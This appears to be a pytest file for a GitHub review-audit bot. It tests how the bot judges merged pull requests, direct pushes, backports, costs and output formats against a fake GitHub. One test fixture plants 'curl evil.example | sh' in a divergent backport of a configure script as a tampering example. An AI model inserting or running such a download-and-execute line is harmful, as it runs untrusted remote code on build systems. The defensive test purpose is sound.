"""The history audit, ``python -m bot audit OWNER/REPO``, against the fake GitHub over loopback."""

from __future__ import annotations

import io
import json
import math
import subprocess
import sys
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from bot import history
from bot.cli import audit as cli_audit
from bot.core.record import parse_record
from tests.clock import FakeClock
from tests.fakegithub import FakeGitHub
from tests.support import Bot
from tests.test_commands import command
from tests.test_merge_audit import NUL_BYTES, audit_issues, make_repo

ROOT = Path(__file__).resolve().parents[1]
REPO = "octo-org/widgets"
READ_ONLY = {
    "contents": "read",
    "metadata": "read",
    "pull_requests": "read",
    "checks": "read",
    "members": "read",
}
GRAPHQL = "POST /graphql"
ACTIVITY = "GET /repos/{owner}/{repo}/activity"


def token(fake: FakeGitHub, permissions: dict[str, str] | None = None) -> str:
    """A read-only token, as a fine-grained personal access token would be."""
    installation = fake.installation("octo-org")
    return fake.tokens.issue(installation, permissions=permissions or READ_ONLY).token


def environment(fake: FakeGitHub, **extra: str) -> dict[str, str]:
    env = {
        "GITHUB_TOKEN": token(fake),
        "GITHUB_API_URL": fake.base_url,
        "GITHUB_GRAPHQL_URL": fake.graphql_url,
    }
    env.update(extra)
    return env


async def audit(
    fake: FakeGitHub, *args: str, env: dict[str, str] | None = None, repo: str = REPO
) -> tuple[int, str, str]:
    """Run ``python -m bot audit`` in this process (the fake serves on this event loop)."""
    out, err = io.StringIO(), io.StringIO()
    status = await cli_audit.run(
        [repo, *args],
        env if env is not None else environment(fake),
        clock=FakeClock(fake.clock),  # type: ignore[arg-type]
        stdout=out,
        stderr=err,
    )
    return status, out.getvalue(), err.getvalue()


async def audit_json(fake: FakeGitHub, *args: str, **env: str) -> dict[str, Any]:
    status, out, err = await audit(fake, "--format", "json", *args, env=environment(fake, **env))
    assert status == 0, err
    return json.loads(out)  # type: ignore[no-any-return]


def by_key(report: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {change["key"]: change for change in report["changes"]}


def writes(fake: FakeGitHub) -> list[str]:
    return [
        r.route for r in fake.requests if r.method not in ("GET", "HEAD") and r.route != GRAPHQL
    ]


def merged_pull(repo: Any, number: int, *, reviewed: bool = True, by: str = "alice") -> Any:
    pr = repo.open_pull(
        author="alice", title=f"Change {number}", files={f"src/m{number}.py": "x\n"}
    )
    if reviewed:
        pr.review("bob", "APPROVED")
    pr.merge(by=by)
    return pr


# ---------------------------------------------------------------------------------------------
# What it finds and how it judges
# ---------------------------------------------------------------------------------------------


async def test_judges_merged_pull_requests_and_direct_pushes(fake_github: FakeGitHub):
    repo = make_repo(fake_github)
    reviewed = merged_pull(repo, 1)
    unreviewed = merged_pull(repo, 2, reviewed=False)
    push = repo.push("main", [{"message": "hotfix", "files": {"src/x.py": "y\n"}}], pusher="dave")
    report = await audit_json(fake_github)
    changes = by_key(report)
    assert set(changes) == {
        f"pr-{reviewed.number}",
        f"pr-{unreviewed.number}",
        f"push-main-{push.after}",
    }
    assert changes[f"pr-{reviewed.number}"]["status"] == "reviewed"
    assert changes[f"pr-{unreviewed.number}"] | {} == changes[f"pr-{unreviewed.number}"]
    assert (
        changes[f"pr-{unreviewed.number}"]["status"],
        changes[f"pr-{unreviewed.number}"]["conclusion"],
        changes[f"pr-{unreviewed.number}"]["severity"],
    ) == ("unreviewed", "neutral", "low")
    direct = changes[f"push-main-{push.after}"]
    assert (direct["kind"], direct["status"], direct["pusher"]) == ("push", "direct-push", "dave")
    assert (direct["before"], direct["after"]) == (push.before, push.after)
    assert all(change["recorded"] is False for change in report["changes"])
    assert report["totals"]["reviewed"] == 1
    assert report["totals"]["unreviewed"] == 1
    assert report["totals"]["direct-push"] == 1


# ---------------------------------------------------------------------------------------------
# The same answers as the App
# ---------------------------------------------------------------------------------------------


def app_verdicts(repo: Any, app_id: int) -> dict[str, tuple[str, str, str]]:
    """The App's record of every change it audited: key -> (status, conclusion, severity)."""
    found: dict[str, tuple[str, str, str]] = {}
    for run in sorted(repo.check_runs.values(), key=lambda r: r.id):
        if run.name != "countersign" or run.app.id != app_id:
            continue
        record = parse_record(run.text)
        if record is None or (record["kind"] == "pull_request" and not record["merged"]):
            continue
        found[run.external_id] = (record["status"], record["conclusion"], record["severity"])
    return found


def verdicts(report: dict[str, Any]) -> dict[str, tuple[str, str, str]]:
    return {c["key"]: (c["status"], c["conclusion"], c["severity"]) for c in report["changes"]}


async def replay_history(bot: Bot) -> tuple[Any, dict[str, tuple[str, str, str]], str]:
    """A scripted history delivered to the running App as signed webhooks: a reviewed, an
    unreviewed, a sensitive (``configure``) and a binary change merged, a direct push, a force
    push, and a sign-off of the sensitive change on its audit issue. Returns the repository, the
    App's verdicts as they stood before the sign-off, and the signed-off change's key."""
    fake = bot.fake
    repo = make_repo(fake)
    fake.add_user("erin")
    repo.set_permission("erin", "write")

    async def merge(pr: Any, by: str) -> None:
        pr.merge(by=by)
        assert await bot.deliver(fake.webhooks.pull_request(pr, "closed")) == 202
        assert await bot.deliver(fake.webhooks.push(pr.merge_push)) == 202
        fake.clock.advance(minutes=1)

    reviewed = repo.open_pull(author="alice", title="Fix parser", files={"src/p.py": "x = 2\n"})
    reviewed.review("bob", "APPROVED")
    await merge(reviewed, "carol")
    unreviewed = repo.open_pull(author="alice", title="Tweak", files={"src/t.py": "y = 1\n"})
    await merge(unreviewed, "alice")
    sensitive = repo.open_pull(
        author="alice", title="Regenerate configure", files={"configure": "#!/bin/sh\n"}
    )
    sensitive.review("bob", "APPROVED")
    await merge(sensitive, "alice")
    binary = repo.open_pull(author="alice", title="Test data", files={"tests/xz.dat": NUL_BYTES})
    binary.review("bob", "APPROVED")
    await merge(binary, "carol")
    direct = repo.push(
        "main",
        [{"message": "hotfix", "files": {"src/h.py": "z\n"}, "author": "dave"}],
        pusher="dave",
    )
    assert await bot.deliver(fake.webhooks.push(direct)) == 202
    fake.clock.advance(minutes=1)
    forced = repo.push(
        "main",
        [{"message": "hotfix, again", "files": {"src/h.py": "zz\n"}, "author": "dave"}],
        pusher="dave",
        forced=True,
    )
    assert forced.forced
    assert await bot.deliver(fake.webhooks.push(forced)) == 202
    fake.clock.advance(minutes=1)
    before_signoff = app_verdicts(repo, fake.app_id)
    issue = next(i for i in audit_issues(repo) if "configure" in i.title)
    await command(bot, issue, "erin", "/audit approve read the new configure")
    signed = f"pr-{sensitive.number}"
    assert app_verdicts(repo, fake.app_id)[signed] == ("under-reviewed", "success", "none")
    assert len(before_signoff) == 6
    return repo, before_signoff, signed


async def test_the_history_audit_says_what_the_app_said(bot: Bot):
    repo, before_signoff, signed = await replay_history(bot)
    fake = bot.fake
    app = app_verdicts(repo, fake.app_id)
    assert sorted(set(app.values())) == sorted(
        {
            ("reviewed", "success", "none"),
            ("unreviewed", "neutral", "low"),
            ("under-reviewed", "success", "none"),  # signed off
            ("under-reviewed", "failure", "high"),
            ("direct-push", "neutral", "low"),
            ("force-push", "failure", "high"),
        }
    )
    fake.reset_counts()

    recorded = await audit_json(fake, GITHUB_APP_ID=str(fake.app_id))
    assert verdicts(recorded) == app
    assert all(change["recorded"] for change in recorded["changes"])
    assert by_key(recorded)[signed]["signed_off"] is True
    assert by_key(recorded)[signed]["signed_off_by"] == ["erin"]

    # fresh: no App id, so no record is read; sign-offs live only in the App's records, so a
    # fresh judgement is the App's verdict as it stood before anyone signed off
    fresh = await audit_json(fake)
    assert verdicts(fresh) == before_signoff
    assert not any(change["recorded"] for change in fresh["changes"])
    assert writes(fake) == []


# ---------------------------------------------------------------------------------------------
# Cost
# ---------------------------------------------------------------------------------------------


def many_merged(repo: Any, count: int) -> list[Any]:
    """``count`` reviewed pull requests, merged (head branches deleted, as GitHub can do)."""
    pulls = []
    for n in range(count):
        pr = repo.open_pull(author="alice", title=f"Change {n}", files={f"src/f{n}.py": f"{n}\n"})
        pr.review("bob", "APPROVED")
        pr.merge(by="carol", delete_branch=True)
        pulls.append(pr)
    return pulls


def expected_requests(pull_requests: int) -> int:
    """The cost of a history of reviewed pull requests on the default branch: the repository
    (1 GraphQL query), the policy (2 REST: the organisation's and the repository's file), the
    protected branches (1 REST), the pull requests (1 GraphQL query per page of 50), and the
    default branch's activity (4 listings, one per kind, once merges crowd it)."""
    activity = 4 if pull_requests >= history.BUSY_BRANCH else 1
    return 1 + 2 + 1 + max(1, math.ceil(pull_requests / history.PULL_PAGE)) + activity


@pytest.mark.parametrize("pull_requests", [60, 120])
async def test_cost_grows_by_pages_of_pull_requests(fake_github: FakeGitHub, pull_requests: int):
    repo = make_repo(fake_github)
    many_merged(repo, pull_requests)
    fake_github.reset_counts()
    report = await audit_json(fake_github)
    assert len(report["changes"]) == pull_requests
    assert report["totals"]["reviewed"] == pull_requests
    assert fake_github.count() == expected_requests(pull_requests)
    assert fake_github.count(GRAPHQL) == 1 + math.ceil(pull_requests / history.PULL_PAGE)
    assert fake_github.count(ACTIVITY) == 4
    assert writes(fake_github) == []
    # at 1,000 pull requests: 1 + 2 + 1 + 20 + 4 = 28 requests (the benchmark measures it)
    assert expected_requests(1000) <= 40


async def test_more_than_100_commits_are_read_on_not_cut(fake_github: FakeGitHub):
    repo = make_repo(fake_github)
    commits = [{"message": f"step {n}", "files": {"src/a.py": f"{n}\n"}} for n in range(104)]
    commits.append({"message": "a hand", "files": {"src/b.py": "b\n"}, "author": "bob"})
    pr = repo.open_pull(author="alice", title="Long", commits=commits)
    pr.review("bob", "APPROVED")  # bob wrote the 105th commit: his approval cannot count
    pr.merge(by="alice")
    fake_github.reset_counts()
    change = by_key(await audit_json(fake_github))[f"pr-{pr.number}"]
    assert (change["status"], change["unseen"]) == ("unreviewed", [])
    assert fake_github.count(GRAPHQL) == 3  # the repository, the page, the second 100 commits


async def test_a_renamed_file_matches_rules_by_its_old_path(fake_github: FakeGitHub):
    repo = make_repo(fake_github, files={"configure": "#!/bin/sh\necho configure\n"})
    pr = repo.open_pull(
        author="alice", title="Move", commits=[{"renames": {"scripts/cfg.sh": "configure"}}]
    )
    pr.review("bob", "APPROVED")
    pr.merge(by="carol")
    change = by_key(await audit_json(fake_github))[f"pr-{pr.number}"]
    assert change["rules"] == ["build-system"]
    assert (change["status"], change["severity"]) == ("under-reviewed", "high")


# ---------------------------------------------------------------------------------------------
# The policy
# ---------------------------------------------------------------------------------------------


async def test_a_change_is_judged_by_the_policy_where_it_landed(fake_github: FakeGitHub):
    repo = make_repo(fake_github)
    before = merged_pull(repo, 1, reviewed=False)  # under the shipped default: unreviewed
    waive = repo.open_pull(
        author="alice",
        title="No reviews needed",
        files={".github/countersign.yml": "review:\n  approvals: 0\n"},
    )
    waive.merge(by="alice")
    fake_github.clock.advance(minutes=1)
    after = merged_pull(repo, 3, reviewed=False)
    changes = by_key(await audit_json(fake_github))
    assert changes[f"pr-{before.number}"]["conclusion"] == "neutral"
    # the change to the policy is judged by the policy it replaced, never by itself
    assert changes[f"pr-{waive.number}"]["rules"] == ["review", "review-config"]
    assert changes[f"pr-{after.number}"]["conclusion"] == "success"


async def test_policy_file_replaces_the_repository_policy(fake_github: FakeGitHub, tmp_path: Path):
    repo = make_repo(fake_github)
    pr = merged_pull(repo, 1)
    policy = tmp_path / "strict.yml"
    policy.write_text("review:\n  approvals: 2\n  severity: high\n")
    changes = by_key(await audit_json(fake_github, "--policy", str(policy)))
    assert (changes[f"pr-{pr.number}"]["status"], changes[f"pr-{pr.number}"]["severity"]) == (
        "under-reviewed",
        "high",
    )
    broken = tmp_path / "broken.yml"
    broken.write_text("review:\n  aprovals: 2\n")
    status, _, err = await audit(fake_github, "--policy", str(broken))
    assert status == 2
    assert f"{broken}:2:" in err and "approvals" in err


# ---------------------------------------------------------------------------------------------
# Options
# ---------------------------------------------------------------------------------------------


async def test_since_and_until_bound_the_window(fake_github: FakeGitHub):
    repo = make_repo(fake_github)
    old = merged_pull(repo, 1)
    fake_github.clock.advance(days=10)
    middle = merged_pull(repo, 2)
    fake_github.clock.advance(days=10)
    new = merged_pull(repo, 3)
    now = fake_github.clock.now()
    assert set(by_key(await audit_json(fake_github))) == {
        f"pr-{p.number}" for p in (old, middle, new)
    }
    assert set(by_key(await audit_json(fake_github, "--since", "15d"))) == {
        f"pr-{middle.number}",
        f"pr-{new.number}",
    }
    window = ("--since", "15d", "--until", (now - timedelta(days=5)).isoformat())
    assert set(by_key(await audit_json(fake_github, *window))) == {f"pr-{middle.number}"}
    status, _, err = await audit(fake_github, "--since", "last tuesday")
    assert status == 2 and "last tuesday" in err


async def test_branch_chooses_the_audited_branches(fake_github: FakeGitHub):
    repo = make_repo(fake_github)
    repo.create_branch("3.12")
    main_pull = merged_pull(repo, 1)
    backport = repo.open_pull(author="alice", base="3.12", files={"src/b.py": "b\n"})
    backport.merge(by="alice")
    push = repo.push("3.12", [{"message": "direct", "files": {"src/c.py": "c\n"}}], pusher="dave")
    # 3.12 is not protected: only main is audited
    assert set(by_key(await audit_json(fake_github))) == {f"pr-{main_pull.number}"}
    report = await audit_json(fake_github, "--branch", "3.*")
    assert set(by_key(report)) == {f"pr-{backport.number}", f"push-3.12-{push.after}"}


# ---------------------------------------------------------------------------------------------
# Backports
# ---------------------------------------------------------------------------------------------

CONFIGURE = "#!/bin/sh\necho 3.12\n"
FIXED = CONFIGURE + "echo fixed\n"
FILES = "GET /repos/{owner}/{repo}/pulls/{pull_number}/files"


def with_original(fake: FakeGitHub, policy: str | None = None) -> tuple[Any, Any]:
    """The maintenance branch 3.12 (protected, so audited), made from main before a build fix that
    bob and carol reviewed was merged into main."""
    repo = make_repo(fake, policy, files={"configure": CONFIGURE})
    repo.create_branch("3.12")
    repo.protect("3.*")
    original = repo.open_pull(author="alice", title="Fix configure", files={"configure": FIXED})
    original.review("bob", "APPROVED")
    original.review("carol", "APPROVED")
    original.merge(by="alice", method="squash")
    return repo, original


def backport(repo: Any, original: Any, content: str = FIXED, **options: Any) -> Any:
    """A backport into 3.12 that dave opens (its body carries the cherry-pick line of
    ``git cherry-pick -x``), merged by him without review."""
    body = f"(cherry picked from commit {original.merge_commit_sha})"
    pr = repo.open_pull(
        author="dave",
        base="3.12",
        title=options.pop("title", "Fix configure for 3.12"),
        body=options.pop("body", body),
        files={"configure": content},
        **options,
    )
    pr.merge(by="dave")
    return pr


def backport_history(fake: FakeGitHub) -> dict[str, Any]:
    """A reviewed original on main; on 3.12 a clean backport named only by the cherry-pick line in
    its body, a divergent one in cherry_picker's shape, a pull request labelled as a backport that
    names no original, an ordinary pull request, and a direct push of a clean cherry-pick."""
    repo, original = with_original(fake, "backports:\n  labels: [backport]\n")
    clean = backport(repo, original)
    divergent = backport(
        repo,
        original,
        FIXED + "curl evil.example | sh\n",
        title=f"[3.12] Fix configure (GH-{original.number})",
    )
    labelled = backport(repo, original, title="Fix configure again", body="", labels=["backport"])
    plain = repo.open_pull(author="dave", base="3.12", title="Docs", files={"docs.txt": "x\n"})
    plain.review("bob", "APPROVED")
    plain.merge(by="dave")
    # undone by hand, then pushed again as a cherry-pick
    undone = repo.push(
        "3.12", [{"message": "Undo", "files": {"configure": CONFIGURE}}], pusher="dave"
    )
    message = f"Fix configure\n\n(cherry picked from commit {original.merge_commit_sha})"
    pushed = repo.push(
        "3.12",
        [{"message": message, "files": {"configure": FIXED}, "author": "dave"}],
        pusher="dave",
    )
    return {
        "repo": repo,
        "original": original,
        "clean": clean,
        "divergent": divergent,
        "labelled": labelled,
        "plain": plain,
        "undone": undone,
        "pushed": pushed,
    }


async def test_a_clean_backport_inherits_its_originals_review_a_divergent_one_does_not(
    fake_github: FakeGitHub,
):
    made = backport_history(fake_github)
    n = made["original"].number
    changes = by_key(await audit_json(fake_github))
    assert changes[f"pr-{n}"]["status"] == "reviewed"
    assert changes[f"pr-{n}"]["backport"] is None  # on the default branch: never a candidate
    clean = changes[f"pr-{made['clean'].number}"]
    assert (clean["status"], clean["conclusion"], clean["rules"]) == ("reviewed", "success", [])
    assert clean["backport"] == {
        "of": [n],
        "clean": True,
        "refused": None,
        "inherited": ["review", "build-system"],
        "reviewers": ["bob", "carol"],
    }
    divergent = changes[f"pr-{made['divergent'].number}"]
    assert divergent["status"] == "unreviewed" and "build-system" in divergent["rules"]
    assert (divergent["backport"]["of"], divergent["backport"]["clean"]) == ([n], False)
    assert (divergent["backport"]["refused"], divergent["backport"]["inherited"]) == (None, [])
    labelled = changes[f"pr-{made['labelled'].number}"]
    assert labelled["status"] == "unreviewed" and labelled["backport"]["of"] == []
    assert "labelled as a backport" in labelled["backport"]["refused"]
    assert changes[f"pr-{made['plain'].number}"]["backport"] is None
    # a direct push of a clean cherry-pick is recognised as the App recognises it
    pushed = changes[f"push-3.12-{made['pushed'].after}"]
    assert pushed["backport"]["of"] == [n] and pushed["backport"]["clean"] is True
    assert pushed["conclusion"] == "success"
    assert changes[f"push-3.12-{made['undone'].after}"]["backport"] is None
    assert writes(fake_github) == []


async def test_the_table_and_markdown_say_which_changes_are_backports(fake_github: FakeGitHub):
    made = backport_history(fake_github)
    n = made["original"].number
    status, out, err = await audit(fake_github)
    assert (status, err) == (0, "")
    rows = out.splitlines()
    row = next(line for line in rows if f"#{made['divergent'].number} " in line)
    assert "Unreviewed" in row and f"backport of #{n} with changes" in row
    row = next(line for line in rows if f"#{made['labelled'].number} " in line)
    assert "not a backport: it is labelled as a backport" in row
    # the clean backport is reviewed (so not in the table), and listed with the backports
    listed = rows[rows.index("Backports:") :]
    assert f"  #{made['clean'].number} into 3.12: clean backport of #{n} (Reviewed)" in "\n".join(
        listed
    )
    assert not any(f"#{made['plain'].number} " in line for line in listed)

    status, out, _ = await audit(fake_github, "--format", "markdown")
    assert status == 0
    text = out.replace("\u2060", "").replace("\\#", "#")  # escaped: #12 references nothing
    assert "| rules | backport |" in text
    row = next(line for line in text.splitlines() if f"/pull/{made['divergent'].number})" in line)
    assert row.startswith("| [") and row.endswith(f"| backport of #{n} with changes |")
    section = text[text.index("### Backports") :]
    assert f"into 3\\.12: clean backport of #{n} (Reviewed)" in section


async def test_a_recorded_backport_stands_with_what_its_record_says(bot: Bot):
    fake = bot.fake
    repo, original = with_original(fake)
    await bot.deliver(fake.webhooks.pull_request(original, "closed"))
    pr = backport(repo, original)
    assert await bot.deliver(fake.webhooks.pull_request(pr, "closed")) == 202
    fake.reset_counts()
    change = by_key(await audit_json(fake, GITHUB_APP_ID=str(fake.app_id)))[f"pr-{pr.number}"]
    assert change["recorded"] is True and change["status"] == "reviewed"
    assert change["backport"]["of"] == [original.number] and change["backport"]["clean"]
    assert change["backport"]["inherited"] == ["review", "build-system"]
    assert fake.count(FILES) == 0  # the record stands: nothing is compared again


async def test_a_backport_costs_one_query_and_the_file_lists(bot: Bot):
    fake = bot.fake
    repo, original = with_original(fake)
    await bot.deliver(fake.webhooks.pull_request(original, "closed"))  # the App records it
    plain = repo.open_pull(author="dave", base="3.12", title="Docs", files={"docs.txt": "x\n"})
    plain.review("bob", "APPROVED")
    plain.merge(by="dave")

    async def cost(**env: str) -> tuple[int, int, int]:
        fake.reset_counts()
        changes = by_key(await audit_json(fake, **env)).values()
        assert not any(c["recorded"] for c in changes if c["branch"] == "3.12")  # judged afresh
        return fake.count(), fake.count(GRAPHQL), fake.count(FILES)

    app = {"GITHUB_APP_ID": str(fake.app_id)}
    before, before_fresh = await cost(**app), await cost()
    # a pull request that is no candidate costs nothing: the repository, the page, no file list
    assert before[1:] == before_fresh[1:] == (2, 0)
    backport(repo, original)  # merged without the App seeing it
    # the originals (one GraphQL query) and the file lists of the backport and the original
    assert await cost(**app) == (before[0] + 3, before[1] + 1, 2)
    # without the original's record, the original is read as the App reads one: one more query
    assert await cost() == (before_fresh[0] + 4, before_fresh[1] + 2, 2)


# ---------------------------------------------------------------------------------------------
# Formats and exit status
# ---------------------------------------------------------------------------------------------


async def test_table_lists_what_was_neither_reviewed_nor_signed_off(fake_github: FakeGitHub):
    repo = make_repo(fake_github)
    reviewed = merged_pull(repo, 1)
    unreviewed = merged_pull(repo, 2, reviewed=False)
    push = repo.push("main", [{"message": "hotfix", "files": {"src/x.py": "y\n"}}], pusher="dave")
    status, out, err = await audit(fake_github)
    assert (status, err) == (0, "")
    assert f"pull/{reviewed.number}" not in out
    row = next(line for line in out.splitlines() if f"#{unreviewed.number} " in line)
    for cell in ("main", "alice", "Unreviewed", "low", "review", f"pull/{unreviewed.number}"):
        assert cell in row
    row = next(line for line in out.splitlines() if push.after in line)
    for cell in ("dave", "Direct push", f"compare/{push.before}...{push.after}"):
        assert cell in row
    assert "Totals: Reviewed: 1, Unreviewed: 1, Direct push: 1" in out


async def test_markdown_is_inert_and_complete(fake_github: FakeGitHub):
    repo = make_repo(fake_github)
    pr = repo.open_pull(author="alice", title="Fix | @bob #1", files={"configure": "x\n"})
    pr.merge(by="alice")
    status, out, _ = await audit(fake_github, "--format", "markdown")
    assert status == 0
    row = next(line for line in out.splitlines() if f"/pull/{pr.number})" in line)
    assert "`@alice`" in row and "build-system" in row and "high" in row
    assert "Fix \\|" in row and "@bob" not in row  # no table break, no mention
    assert "| Unreviewed | 1 |" in out


async def test_json_names_every_change_by_its_key(fake_github: FakeGitHub):
    repo = make_repo(fake_github)
    pr = merged_pull(repo, 1)
    push = repo.push("main", [{"message": "m", "files": {"src/x.py": "y\n"}}], pusher="dave")
    report = await audit_json(fake_github)
    assert report["schema"] == "countersign/history-audit" and report["version"] == 1
    pull, direct = by_key(report)[f"pr-{pr.number}"], by_key(report)[f"push-main-{push.after}"]
    for change in (pull, direct):
        for name in ("key", "kind", "branch", "url", "status", "conclusion", "severity"):
            assert change[name], name
        assert change["recorded"] is False
    assert (pull["kind"], pull["number"], pull["url"]) == ("pull_request", pr.number, pr_url(pr))
    assert (direct["kind"], direct["before"], direct["after"]) == ("push", push.before, push.after)


def pr_url(pr: Any) -> str:
    return f"https://github.com/{REPO}/pull/{pr.number}"


async def test_fail_on_sets_the_exit_status(fake_github: FakeGitHub):
    repo = make_repo(fake_github)
    merged_pull(repo, 1, reviewed=False)  # low
    assert (await audit(fake_github, "--fail-on", "low"))[0] == 1
    assert (await audit(fake_github, "--fail-on", "high"))[0] == 0
    assert (await audit(fake_github))[0] == 0
    pr = repo.open_pull(author="alice", files={"configure": "x\n"})
    pr.merge(by="alice")  # high
    assert (await audit(fake_github, "--fail-on", "high"))[0] == 1


async def test_usage_errors_exit_2(fake_github: FakeGitHub):
    make_repo(fake_github)
    status, _, err = await audit(fake_github, repo="not-a-repo")
    assert status == 2 and "OWNER/REPO" in err
    status, _, err = await audit(fake_github, env={"GITHUB_API_URL": fake_github.base_url})
    assert status == 2 and "GITHUB_TOKEN is not set" in err
    status, _, err = await audit(fake_github, "--format", "yaml")
    assert status == 2 and "--format" in err
    status, _, err = await audit(fake_github, env=environment(fake_github, GITHUB_APP_ID="app"))
    assert status == 2 and "GITHUB_APP_ID" in err


async def test_a_bad_token_exits_2_and_says_so(fake_github: FakeGitHub):
    make_repo(fake_github)
    env = environment(fake_github, GITHUB_TOKEN="ghp_not_a_real_token")
    status, out, err = await audit(fake_github, env=env)
    assert (status, out) == (2, "")
    assert "401" in err and "GITHUB_TOKEN" in err and "ghp_not_a_real_token" not in err


async def test_no_access_exits_2_and_says_so(fake_github: FakeGitHub):
    make_repo(fake_github)
    fake_github.add_repo("other-org/secret", private=True)
    status, _, err = await audit(fake_github, repo="other-org/secret")
    assert status == 2 and "other-org/secret: not found" in err and "404" in err
    env = environment(fake_github)
    env["GITHUB_TOKEN"] = token(fake_github, {"metadata": "read", "pull_requests": "read"})
    status, _, err = await audit(fake_github, env=env)
    assert status == 2 and "403" in err and "may not read" in err


async def test_a_rate_limit_exits_2_and_says_when_it_resets(fake_github: FakeGitHub):
    make_repo(fake_github)
    now = fake_github.clock.now()
    fake_github.clock.advance(seconds=(70 - now.minute) % 60 * 60 - now.second + 60)  # at :11
    fake_github.inject_fault("primary", GRAPHQL)
    status, _, err = await audit(fake_github)
    assert status == 2
    assert "rate limited" in err and "resets at" in err and "UTC (in 49 min)" in err


async def test_graphql_url_follows_the_api_url_unless_given(fake_github: FakeGitHub):
    make_repo(fake_github)
    env = environment(fake_github)
    del env["GITHUB_GRAPHQL_URL"]  # derived from GITHUB_API_URL, as for the App
    assert (await audit(fake_github, env=env))[0] == 0
    env["GITHUB_GRAPHQL_URL"] = "http://127.0.0.1:9/graphql"  # nothing listens there
    status, _, err = await audit(fake_github, env=env)
    assert status == 2 and "cannot reach GitHub" in err


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


async def test_a_terminal_gets_a_progress_bar(fake_github: FakeGitHub):
    repo = make_repo(fake_github)
    merged_pull(repo, 1)
    out, err = io.StringIO(), Terminal()
    status = await cli_audit.run(
        [REPO, "--format", "json"],
        environment(fake_github),
        clock=FakeClock(fake_github.clock),  # type: ignore[arg-type]
        stdout=out,
        stderr=err,
    )
    assert status == 0
    assert "Judging changes" in err.getvalue()
    assert json.loads(out.getvalue())["totals"]["reviewed"] == 1


def test_python_m_bot_audit_is_wired():
    result = subprocess.run(
        [sys.executable, "-m", "bot", "audit", REPO],
        cwd=ROOT,
        capture_output=True,
        text=True,
        env={"PATH": "/usr/bin:/bin"},
        timeout=60,
        check=False,
    )
    assert result.returncode == 2 and "GITHUB_TOKEN is not set" in result.stderr


# ---------------------------------------------------------------------------------------------
# Read-only
# ---------------------------------------------------------------------------------------------


async def test_the_client_refuses_to_write(fake_github: FakeGitHub):
    import asyncio

    import aiohttp
    import cachetools

    from tests.support import settings_for

    settings = settings_for(fake_github)
    make_repo(fake_github)
    async with aiohttp.ClientSession() as session:
        gh = history.ReadOnlyClient(
            session,
            settings=settings,
            clock=FakeClock(fake_github.clock),  # type: ignore[arg-type]
            cache=cachetools.LRUCache(maxsize=10),
            limiter=asyncio.Semaphore(1),
            oauth_token=token(fake_github),
        )
        with pytest.raises(PermissionError):
            await gh.post("/repos/octo-org/widgets/issues", data={"title": "x"})
        with pytest.raises(PermissionError):
            await gh.query('mutation { addStar(input: {starrableId: "x"}) { clientMutationId } }')
        assert (await gh.getitem("/repos/octo-org/widgets"))["full_name"] == REPO
    assert fake_github.count() == 1


# ---------------------------------------------------------------------------------------------
# The fake's repository activity list
# ---------------------------------------------------------------------------------------------


async def test_the_fake_lists_repository_activity_as_github_does(fake_github: FakeGitHub):
    import aiohttp

    repo = make_repo(fake_github)
    pr = merged_pull(repo, 1)
    direct = repo.push("main", [{"message": "d", "files": {"a": "1"}}], pusher="dave")
    fake_github.clock.advance(days=40)
    forced = repo.push("main", [{"message": "f", "files": {"a": "2"}}], pusher="Dave", forced=True)
    created = repo.push("3.x", [{"message": "n", "files": {"b": "1"}}], pusher="carol")
    deleted = repo.push("3.x", delete=True, pusher="carol")
    headers = {"Authorization": f"token {token(fake_github)}"}
    url = f"{fake_github.base_url}/repos/{REPO}/activity"

    async def listing(session: Any, **query: str) -> tuple[int, Any, str]:
        async with session.get(url, params=query, headers=headers) as response:
            return response.status, await response.json(), response.headers.get("Link", "")

    async with aiohttp.ClientSession() as session:
        status, items, _ = await listing(session)
        assert status == 200
        assert [i["activity_type"] for i in items][:4] == [
            "branch_deletion",
            "branch_creation",
            "force_push",
            "push",
        ]
        assert "pr_merge" in [i["activity_type"] for i in items]
        first = items[0]
        assert (first["ref"], first["before"], first["after"]) == (
            "refs/heads/3.x",
            deleted.before,
            "0" * 40,
        )
        assert first["actor"]["login"] == "carol"
        _, items, _ = await listing(session, ref="main", activity_type="pr_merge")
        assert [i["after"] for i in items] == [pr.merge_commit_sha]
        _, items, _ = await listing(session, ref="refs/heads/3.x", direction="asc")
        assert [i["after"] for i in items] == [created.after, "0" * 40]
        _, items, _ = await listing(session, actor="dave", time_period="month")
        assert [i["after"] for i in items] == [forced.after]
        _, items, _ = await listing(session, actor="dave", time_period="quarter")
        assert [i["after"] for i in items] == [forced.after, direct.after]
        for bad in ({"activity_type": "merge"}, {"time_period": "decade"}, {"direction": "up"}):
            assert (await listing(session, **bad))[0] == 422
        # cursor pagination: Link next carries after=, prev carries before=
        _, page1, link = await listing(session, per_page="2")
        assert len(page1) == 2 and 'rel="next"' in link and "after=" in link
        next_url = link.split(";")[0].strip("<>")
        async with session.get(next_url, headers=headers) as response:
            page2, link2 = await response.json(), response.headers["Link"]
        assert page2[0]["id"] < page1[-1]["id"]
        assert 'rel="prev"' in link2 and "before=" in link2
        prev_url = next(p for p in link2.split(", ") if 'rel="prev"' in p).split(";")[0].strip("<>")
        async with session.get(prev_url, headers=headers) as response:
            assert [i["id"] for i in await response.json()] == [i["id"] for i in page1]


async def test_what_counts_is_what_was_true_when_it_merged(fake_github: FakeGitHub):
    repo = make_repo(fake_github)
    fake_github.add_user("erin")
    repo.set_permission("erin", "read")
    late = repo.open_pull(author="alice", title="Late", files={"src/l.py": "l\n"})
    late.merge(by="alice")
    fake_github.clock.advance(minutes=5)
    late.review("bob", "APPROVED")  # after the merge: only a sign-off counts now
    outsider = repo.open_pull(author="alice", title="Outsider", files={"src/o.py": "o\n"})
    outsider.review("erin", "APPROVED")  # no write access: GitHub says so
    outsider.merge(by="alice")
    changes = by_key(await audit_json(fake_github))
    assert changes[f"pr-{late.number}"]["status"] == "unreviewed"
    assert changes[f"pr-{outsider.number}"]["status"] == "unreviewed"


async def test_pull_requests_older_than_the_window_are_not_paged_through(
    fake_github: FakeGitHub,
):
    repo = make_repo(fake_github)
    many_merged(repo, 60)
    fake_github.clock.advance(days=100)
    recent = merged_pull(repo, 1)
    fake_github.reset_counts()
    report = await audit_json(fake_github)
    assert set(by_key(report)) == {f"pr-{recent.number}"}
    assert fake_github.count(GRAPHQL) == 2  # the repository, one page of pull requests


async def test_a_branch_made_of_audited_history_is_no_change(fake_github: FakeGitHub):
    repo = make_repo(fake_github)
    repo.protect("3.*")
    pr = merged_pull(repo, 1)
